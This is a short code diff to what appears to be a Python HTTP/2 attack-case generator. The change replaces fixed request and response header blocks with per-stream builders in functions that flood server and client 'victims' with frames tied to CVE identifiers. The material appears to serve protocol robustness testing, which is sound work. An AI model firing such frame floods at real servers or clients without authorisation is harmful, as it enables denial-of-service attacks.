@@ -13,8 +13,9 @@ from .messages import (
     METHOD_GET,
     PATH_ROOT,
     POST,
-    RESPONSE,
     SCHEME_HTTPS,
+    request_without_table,
+    response_without_table,
 )
 from .streams import MANY
 from .wire import indexed, literal
@@ -42,12 +43,12 @@ def _blocks(
     def to_server() -> Frames:
         for stream_id in wire.odd_numbers():
             extra = again if stream_id > 1 or first is None else first
-            yield from split(stream_id, GET + extra)
+            yield from split(stream_id, request_without_table(stream_id) + extra)
 
     def to_client() -> Frames:
         for stream_id in islice(wire.odd_numbers(), MANY):
             extra = again if stream_id > 1 or first is None else first
-            yield from split(stream_id, RESPONSE + extra)
+            yield from split(stream_id, response_without_table(stream_id) + extra)
 
     if "server" in victims:
         attack(name, words, ("server",), cve=cve, batch=REQUESTS)(to_server)
@@ -204,11 +205,11 @@ def _beginning(name: str, words: str, before: bytes, *, cve: str = "CVE-2022-417
 
     def to_server() -> Frames:
         for stream_id in wire.odd_numbers():
-            yield wire.headers(stream_id, before + GET, end=True)
+            yield wire.headers(stream_id, before + request_without_table(stream_id), end=True)
 
     def to_client() -> Frames:
         for stream_id in islice(wire.odd_numbers(), MANY):
-            yield wire.headers(stream_id, before + RESPONSE, end=True)
+            yield wire.headers(stream_id, before + response_without_table(stream_id), end=True)
 
     attack(name, words, ("server",), cve=cve, batch=REQUESTS)(to_server)
     attack(name, words, ("client",), cve=cve, streams=MANY)(to_client)
